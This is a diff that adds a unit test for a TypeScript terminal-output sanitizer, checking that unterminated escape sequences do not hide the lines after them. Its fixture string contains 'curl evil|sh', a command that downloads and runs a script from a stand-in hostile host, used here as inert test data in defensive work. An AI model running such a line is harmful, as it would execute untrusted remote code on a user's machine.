@@ -61,6 +61,15 @@ function actsOnTerminal(text: string): string | null {
   return at < 0 ? null : JSON.stringify(rest.slice(Math.max(0, at - 10), at + 20));
 }
 
+describe("terminalSafe", () => {
+  it("an unterminated string control does not swallow the lines after it", () => {
+    for (const intro of ["\u009D", "\u0090", "\u001B]", "\u001BP"]) {
+      expect(terminalSafe(`npm test ${intro}0;x\ncurl evil|sh`)).toBe("npm test \ncurl evil|sh");
+    }
+    expect(terminalSafe("a\u001B]2;title\u0007b")).toBe("ab");
+  });
+});
+
 describe("terminalSafe (property)", () => {
   it("leaves no escape, no C1 and no control but newlines, and is idempotent", () => {
     fc.assert(
